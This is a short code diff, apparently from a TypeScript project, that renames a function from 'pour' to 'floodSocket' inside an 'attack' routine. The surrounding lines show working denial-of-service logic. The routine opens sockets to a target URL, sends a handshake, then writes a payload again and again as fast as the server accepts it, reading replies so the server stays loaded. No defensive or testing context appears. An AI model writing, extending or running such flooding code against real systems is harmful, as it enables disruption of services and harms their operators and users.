@@ -34,7 +34,7 @@ export function attack(url: string, name: keyof typeof ATTACKS): () => Promise<v
     if (isOver) return;
     const socket = connect(Number(port), hostname, () => {
       socket.write(handshake(hostname, port, pathname));
-      socket.once("data", () => pour(socket, load));
+      socket.once("data", () => floodSocket(socket, load));
       // The server's answers are read, so that it is never the reader who is slow.
       socket.resume();
     });
@@ -54,9 +54,9 @@ export function attack(url: string, name: keyof typeof ATTACKS): () => Promise<v
 }
 
 /** Writes the bytes again and again, as fast as the server takes them. */
-function pour(socket: Socket, load: Buffer): void {
+function floodSocket(socket: Socket, load: Buffer): void {
   if (socket.destroyed) return;
-  socket.write(load, () => setTimeout(() => pour(socket, load), 1));
+  socket.write(load, () => setTimeout(() => floodSocket(socket, load), 1));
 }
 
 function handshake(host: string, port: string, path: string): string {
